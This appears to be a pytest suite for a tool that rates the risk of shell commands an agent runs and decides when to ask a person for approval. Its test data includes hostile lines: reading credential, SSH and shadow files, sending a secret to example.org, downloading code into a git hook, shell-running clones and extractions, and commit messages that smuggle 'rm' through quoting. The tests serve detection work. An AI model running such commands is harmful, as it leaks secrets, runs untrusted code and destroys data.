"""How often the risk of a command line is wrong, over the labelled lines of `tests/cases/risk`, and how often a person
is asked needlessly (CMD-05).

One half of the lines is only counted: a failure names only lines of the other half.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st
from risk_sets import ACTING, HARMLESS, LOCAL, Case, Half, read_cases, read_local
from rows import rows

from remit_governance.policy.decision.builtin import BUILTIN
from remit_governance.policy.decision.evaluate import evaluate
from remit_governance.policy.decision.extension import ScriptedRules, read_rule, with_extension
from remit_governance.policy.decision.risk import risk_of
from remit_governance.policy.language.compile import Source, compile_policy
from remit_governance.policy.rules import Policy
from remit_governance.policy.shell.catalogue.files import packaged
from remit_governance.policy.shell.catalogue.rows import Program
from remit_governance.policy.shell.parse import read_script
from remit_governance.values import Action, Verdict

CASES = read_cases()
HARMLESS_CASES = [case for case in CASES if case.kind == HARMLESS]
HARMFUL_CASES = [case for case in CASES if case.kind != HARMLESS]


def of(half: Half, cases: Sequence[Case]) -> list[Case]:
    return [case for case in cases if case.half == half]


def test_the_sets_are_large_enough_to_count() -> None:
    assert (len(of("tune", HARMLESS_CASES)), len(of("tune", HARMFUL_CASES))) == (549, 698)
    assert min(len(of("held", HARMLESS_CASES)), len(of("held", HARMFUL_CASES))) >= 300


@pytest.mark.slow
def test_THR_shell_no_line_of_those_to_learn_from_is_rated_wrongly() -> None:
    """No harmless line is asked about either if everything is allowed, except for those in `DEBATED`."""
    wrong = [case.line for case in of("tune", CASES) if case.wrong]
    asked = [case.line for case in of("tune", HARMLESS_CASES) if case.verdict is not Verdict.ALLOW]
    assert {*wrong, *asked} <= DEBATED


DEBATED = {
    "PYTHONPATH=src python -m mypkg --help",  # a module that nobody knows
    "printf 'y\\n' | ./scripts/interactive-check --dry-run",  # a script that nobody knows
    "cp .env.example .env.local",  # it overwrites a file that may hold secrets
    'cat > scratch.txt <<< "draft"',  # the grammar takes the text for a file
    'ls | while IFS= read -r f; do file "$f"; done',  # a name may be an option of `file`
    'cd "$(git rev-parse --show-toplevel)" && make check',  # it may leave the workspace
}
"""Harmless lines that are rated `high` or asked about on purpose."""


@pytest.mark.slow
def test_THR_shell_the_lines_that_nobody_looked_at_are_seldom_rated_wrongly() -> None:
    """Only counts are compared, so a failure names no line."""
    harmless, harmful = of("held", HARMLESS_CASES), of("held", HARMFUL_CASES)
    high = sum(case.wrong for case in harmless)
    asked = sum(case.verdict is not Verdict.ALLOW for case in harmless)
    low = sum(case.wrong for case in harmful)
    assert high <= len(harmless) * 0.05
    assert asked <= len(harmless) * 0.03
    assert low <= len(harmful) * 0.021


def test_CMD_09_no_line_that_acts_is_low_and_nearly_all_are_that_only_read() -> None:
    cases = read_local()
    assert [case.line for case in cases if case.kind == ACTING and case.wrong] == []
    reading = [case for case in cases if case.kind == LOCAL]
    assert len(reading) >= 500
    assert sum(case.wrong for case in reading) <= len(reading) * 0.03


@pytest.mark.slow
def test_CMD_09_a_line_that_is_low_is_not_with_any_option_that_does_more() -> None:
    """Each low line gets each option that writes a file or that by itself does more than read."""
    low = []
    tried = 0
    for case in (*read_local(), *of("tune", HARMLESS_CASES)):
        program, _, rest = case.line.partition(" ")
        row = packaged(program)
        if (
            case.kind == ACTING
            or case.risk != "low"
            or row is None
            or program == "uv"
            or set(case.line) & set("|;&<>$(")
        ):
            continue
        for line in _with_options(program, rest, row):
            tried += 1
            low += [line] if risk_of(Action("process.exec", script=line)) == "low" else []
    assert tried > 4_000
    assert low == []


def _with_options(program: str, rest: str, row: Program) -> Iterator[str]:
    alone = (entry for entry in row.entries if not (entry.operands or entry.lowers or entry.ends))
    for option in (*row.writes, *(name for entry in alone if len(entry.options) == 1 for name in entry.options)):
        yield f"{program} {option} out.txt {rest}"
        if "stop" not in row.marks:
            yield f"{program} {rest} {option} out.txt"


@rows(
    "line",
    [
        *(
            "ruff check --fi",
            "ruff check -ofoo",
            "black src",
            "isort --check --appl",
            "codespell --writ src",
            "shfmt -lw a.sh",
        ),
        *("gofmt -w=true a.go", "clang-format --i a.c", "tsc --noEmit false", "gcc -fsyntax-only -save-temps a.c"),
        *("gcc @file -fsyntax-only", "terraform fmt -check=false", "uv version 1.0", "git branch -uorigin/main"),
        *("git branch --unset-u", "git fsck --lost", "git archive -oout.tar HEAD", "dmesg --console-lev 1"),
        *(
            "journalctl --relinquish",
            "ifconfig eth0 -arp",
            "plutil -replace a -string b f",
            "zless +'!rm' a",
            "jobs -x rm a",
        ),
        *(
            "stty -echo",
            "efibootmgr -B 1",
            "pyenv local --unset",
            "hostname -F x",
            "xxd -r a",
            "uniq -c a b",
            "cpio -tO x",
        ),
        *("exiftool -Artist=me a.jpg", "exiftool -csv=x .", "ip link s dev x up", "hg --config alias.st='!rm' st"),
        *("sqlite3 a.db 'select 1'", "psql -l -o x", "arch -x86_64 rm x", "fzf --bind 'enter:become(vim {})'"),
        *("ls | xargs ruff check", "ls | xargs gzip -l", "cargo fmt -- src", "rg --files ~/.ssh", "yq ~/.kube/config"),
        *("terraform output -json", "sed -n p /etc/shadow", "find . -ok cat {} ';'", "kubectl kustomize . --output x"),
    ],
)
def test_CMD_09_what_does_more_is_not_low_in_whichever_spelling(line: str) -> None:
    assert risk_of(Action("process.exec", script=line)) != "low"


def policy(*rules: dict[str, object]) -> Policy:
    everything = {"name": "all", "match": {}, "action": "allow"}
    return compile_policy([Source("p", json.dumps({"capabilities": [everything, *rules]}))])


DENIED_BY_ALL = {rule.name for rule in BUILTIN.rules if rule.verdict is Verdict.DENY}
DENIED = {
    word: policy({"name": "this", "match": {"risk": word}, "action": "deny"}) for word in ("low", "medium", "high")
}


@pytest.mark.slow
@pytest.mark.parametrize("half", ["tune", "held"])
def test_THR_shell_what_a_person_is_shown_is_the_highest_that_rules_see(half: str) -> None:
    """For all lines: one shown as `medium` is denied by a rule about `medium`, and by none about `high`."""
    order = ("low", "medium", "high")
    wrong = 0
    for case in CASES:
        if case.half == half:
            action = Action("process.exec", script=case.line)
            decisions = {word: evaluate(DENIED[word], action) for word in order}
            seen = [word for word in order if "this" in decisions[word].rules]
            # If a built-in rule denies, the other rules are not evaluated.
            denied = any(each.rule in DENIED_BY_ALL for decision in decisions.values() for each in decision.reasons)
            wrong += not denied and (not seen or max(seen, key=order.index) != risk_of(action))
    assert wrong == 0


@rows("line", ["ls $X", "ls; $(made-up) x", "sh -c ls", "cat a | sh", "ls && rm -r x", "ls"])
def test_THR_shell_a_rule_that_is_a_program_sees_the_risk_that_is_shown(line: str) -> None:
    """Even if only the line as a whole is uncertain, each of its parts is high."""
    ask = ScriptedRules({})
    action = Action("process.exec", script=line)
    evaluate(with_extension(policy(), [read_rule("rules/mine.py", "mine", RULE)], ask), action)
    order = ("low", "medium", "high")
    assert max((str(facts["risk"]) for facts in ask.asked), key=order.index) == risk_of(action)
    if risk_of(action) == "high" and "&&" not in line:
        assert {facts["risk"] for facts in ask.asked} == {"high"}


RULE = "def rule(action):\n    return None\n"


@rows(
    "line",
    [
        "git config core.pager x --get",
        "git clean -fd -e -n",
        "git checkout HEAD src",
        "git branch -qD x",
        "git rm -rf .",
        "git restore -SW .",
        "git reset --har",
        "git fetch origin +main:main",
        "go env -w GOFLAGS=-x",
        "go test -exec /tmp/x ./...",
        "cargo test --config 'x=\"y\"'",
        "make CC='sh -c rm'",
        "make SHELL=/tmp/x",
        "npm test --script-shell=/tmp/x",
        "npm run deploy",
        "pip install -e git+https://example.org/x",
        "python -c 'import os; print(os.system(1))'",
        'node -p \'require("fs").rmSync("x")\'',
        "sqlite3 a.db \"select writefile('x','y')\"",
        "psql -c 'select 1; delete from x'",
        "curl 'https://example.org/?x=secret'",
        "curl -H 'Authorization: x' https://example.org",
        "curl -o .git/hooks/pre-commit https://example.org/x",
        "kubectl get pods,secrets",
        "docker run --rm -v /:/x image",
        "gh api -X DELETE repos/x",
        "less '+!rm' a",
        "tree -o .git/config",
        "yq -i .a=1 package.json",
        ": > src/a.py",
        "cat /dev/null > src/a.py",
        "cp /dev/null src/a.py",
        "mv src /tmp",
        "kill -9 -1",
        "chmod u+s a",
        "chmod 777 a",
        "git show HEAD:.env",
        "cp x node_modules/.bin/tsc",
        "pytest --override-ini=addopts=/tmp/x",
        "tar xf a.tar --to-command=sh",
        "find . -exec rm {} +",
        'for f in .env; do cat "$f"; done',
        "echo $(cat .env)",
        "cat {.env,a}",
        "cat ~/.aws/credentials",
        "git clone 'ext::sh -c id' x",
        "git config --unset-all remote.origin.url",
        "python -c 'from os import system as print; print(\"x\")'",
        "python -c 'import json; json.loads(\"1.5\", parse_float=exit)'",
        "python -c 'print(open(\".env\").read())'",
        'node -e \'console.log(require("child_process").execSync("x"))\'',
        "ruby -e 'puts File.delete(\"x\")'",
        "perl -ne print 'id|'",
        "Rscript -e 'unlink(\"x\")'",
        "printenv AWS_SECRET_ACCESS_KEY",
        "sysctl vm.swappiness=1",
        "kubectl delete -f x --dry-run=none",
        "kubectl apply --dry-run=client --dry-run=none -f x",
        "cargo watch -x publish",
        "heroku ps:scale web=0",
        "convert a 'msl:x'",
        "composer deploy",
        "x=push; git $x",
        'X=.env; cat "$X"',
    ],
)
def test_THR_shell_an_option_or_a_place_that_reaches_further_is_high(line: str) -> None:
    """These programs are harmless with other options or places."""
    assert risk_of(Action("process.exec", script=line)) == "high"


MESSAGE = """git commit -m "$(cat <<'EOF'
fix(cart): don't round twice

The total (of all lines) is rounded once.
EOF
)" """


@rows(
    "line",
    [
        MESSAGE,
        *("VERSION=1.2.3; echo $VERSION", "DIR=src; cd $DIR && make test", "i=0; i=$((i + 1)); echo $i"),
        *('[[ -f a && -n "$B" ]] && ls', "pushd docs && ls && popd", "make &> build/log.txt", "bash -n a.sh"),
        *(". .venv/bin/activate && pytest", "PYTHONPATH=src pytest", "RUSTFLAGS='-D warnings' cargo check"),
        *("git diff --name-only | xargs ruff check", "wc -l $(git ls-files '*.py')", "echo `date`"),
        *('python -c \'import json; print(json.load(open("a.json"))["v"])\'', "ruby -e 'puts RUBY_VERSION'"),
        *("kubectl apply --dry-run=client -f k8s", "cargo watch -x test", "sysctl -n hw.ncpu", "xargs --version"),
    ],
)
def test_what_only_shows_or_builds_is_neither_high_nor_asked_about(line: str) -> None:
    assert risk_of(Action("process.exec", script=line)) != "high"
    assert Case(line, HARMLESS, "tune").verdict is Verdict.ALLOW


def _message(body: str) -> str:
    return f"git commit -m \"$(cat <<'EOF'\n{body}\nEOF\n)\""


@rows(
    "body",
    [
        *("x $(rm y)", "EOF\n)\"; rm y; echo \"$(cat <<'EOF'", "x \\", "x \\` y"),
        # A shell that counts parentheses would end the text at the single one, and run what stands in backticks.
        *("1) `rm y`", "((x) `rm y`", "(`x) `rm y`", "x\nEOF\nrm y"),
    ],
)
def test_THR_shell_a_message_that_may_run_something_is_never_certain(body: str) -> None:
    assert risk_of(Action("process.exec", script=_message(body))) == "high"


def test_THR_shell_a_message_that_may_end_later_is_never_certain() -> None:
    """A shell that counts quotes may find the message's end in the text after it."""
    assert read_script(f"{_message('`rm y`')} && echo ')\" ; rm y; \"'").doubts


QUOTING = [
    "x `rm y`",
    'x" ; rm y; "',
    'fix "a" and `b()` (see #4)',
    "don't `rm y`, it's \"one\" quote",
    'a " alone',
    "` alone",
]


@rows("body", QUOTING)
def test_CMD_01_quotes_and_backticks_in_a_quoted_message_are_text(body: str) -> None:
    """The line's programs are `cat`, which prints the text, and `git`; a real shell starts no other one."""
    reading = read_script(_message(body))
    assert (reading.doubts, [argv[:3] for argv in reading.commands]) == ((), [("git", "commit", "-m")])
    for shell in ("bash", "sh"):
        script = f'git() {{ printf %s "$3"; }}; rm() {{ echo RAN; }}; b() {{ echo RAN; }}; {_message(body)}'
        ran = subprocess.run([shell, "-c", script], capture_output=True, text=True, check=True)
        assert ran.stdout == body


@rows(
    "line",
    [
        *('cat "$HOME/x"', "cat ~/x", 'for f in *; do cat "$f"; done', "cat {/home/me/x,y}", 'cat "$PWD"'),
        *("diff <(cat /home/me/x) y", 'echo "$(cat /home/me/x)"'),
    ],
)
def test_THR_shell_a_word_that_may_become_what_a_rule_denies_is_asked_about(line: str) -> None:
    """`"$HOME/x"` alone needs no approval, but if a rule denies `cat /home/me/x`, the line may be that command."""
    denies = policy({"name": "no", "match": {"command": "cat /home/me/x"}, "action": "deny"})
    asks = policy({"name": "no", "match": {"command": "cat /home/me/x"}, "action": "require_review"})
    action = Action("process.exec", script=line)
    assert Case(line, HARMLESS, "tune").verdict is Verdict.ALLOW
    assert evaluate(denies, action).verdict >= Verdict.REQUIRE_REVIEW
    assert evaluate(asks, action).verdict is Verdict.REQUIRE_REVIEW


PIECES = st.sampled_from(
    [case.line for case in CASES if case.half == "tune" and len(case.line) < 80 and "<<" not in case.line]
)


@given(PIECES, PIECES)
def test_a_line_is_no_less_than_its_parts(one: str, other: str) -> None:
    order = ("low", "medium", "high")
    alone = max((risk_of(Action("process.exec", script=line)) for line in (one, other)), key=order.index)
    together = risk_of(Action("process.exec", script=f"{one}\n{other}"))
    # After a `cd`, a path in the other line may lie in the workspace.
    assert order.index(together) >= order.index(alone) or "cd " in one
